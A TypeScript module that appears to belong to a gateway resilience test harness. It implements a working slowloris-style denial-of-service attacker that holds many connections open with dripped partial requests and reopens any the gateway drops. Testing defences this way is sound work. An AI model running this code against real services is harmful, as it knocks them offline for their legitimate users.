// One process of somebody who means harm: node slow-attacker.ts <folder>
// Reads order.json there. POST / takes as many connections to the gateway as it was told and holds them until DELETE /; both
// answer how many there are. One that the gateway lets go is taken again at once.
import { lookup } from 'node:dns/promises'
import { createServer } from 'node:http'
import { type AddressInfo, connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { announce, readOrder } from '../measure/orders.ts'

/** What the runner asks for. */
export interface AttackOrder {
  readonly gateway: string
  readonly connections: number
}

/** How the attack stands. */
export interface Attack {
  /** Connections that are open. */
  readonly held: number
  /** Connections that the gateway has closed since the beginning. */
  readonly letGo: number
}

/** What is sent at once, and what follows a piece a second. */
interface Manner {
  readonly start: string
  readonly drip: string
}

const body = [
  'POST /v1/reads HTTP/1.1',
  'Host: a',
  'Contract-Revision: 1',
  'Content-Type: application/json',
  'Content-Length: 1000',
  '',
  '{"reads":[',
].join('\r\n')
const manners: readonly Manner[] = [
  { start: 'GET /healthz HTTP/1.1\r\nHost: a\r\n', drip: 'X-Slow: 1\r\n' },
  { start: body, drip: ' ' },
  { start: '', drip: '' },
]

/** 100: the pieces of a second are spread over it, so that the gateway is never asked for all at once. */
const turnsPerSecond = 100

const { gateway, connections } = await readOrder<AttackOrder>()
const { hostname, port } = new URL(gateway)
const { address } = await lookup(hostname)
const held = new Map<Socket, Manner>()
let isUnderWay = false
let letGo = 0
let turn = 0

setInterval(drip, 1_000 / turnsPerSecond)
const server = createServer(async (request, response) => {
  isUnderWay = request.method === 'POST'
  if (isUnderWay) await hold()
  else release()
  const attack: Attack = { held: open(), letGo }
  response.end(JSON.stringify(attack))
}).listen(0, '127.0.0.1', () => void announce({ port: (server.address() as AddressInfo).port }))
process.once('SIGTERM', () => process.exit(0))

/** Takes them a hundred at a time: more at once than the gateway's queue holds are lost on the way to it. */
async function hold(): Promise<void> {
  for (let at = 0; held.size < connections; at += 1) {
    take(manners[at % manners.length] as Manner)
    if (at % 100 === 99) await pause(20)
  }
  // Those that are taken again are never open all at once.
  const isHeld = () => open() > connections * 0.95
  for (const endMs = performance.now() + 30_000; !isHeld(); ) {
    if (performance.now() > endMs) throw new Error(`the gateway took ${open()} of ${connections} connections in 30 s`)
    await pause(20)
  }
}

function open(): number {
  return [...held.keys()].filter(({ readyState }) => readyState === 'open').length
}

function release(): void {
  for (const socket of held.keys()) socket.destroy()
  held.clear()
}

function take(manner: Manner): void {
  const socket = connect(Number(port), address, () => socket.write(manner.start))
  held.set(socket, manner)
  socket.resume()
  socket.on('error', () => undefined)
  socket.on('close', () => {
    if (!held.delete(socket) || !isUnderWay) return
    letGo += 1
    take(manner)
  })
}

function drip(): void {
  turn = (turn + 1) % turnsPerSecond
  let at = 0
  for (const [socket, manner] of held) {
    at += 1
    if (at % turnsPerSecond === turn && manner.drip !== '' && socket.writable) socket.write(manner.drip)
  }
}
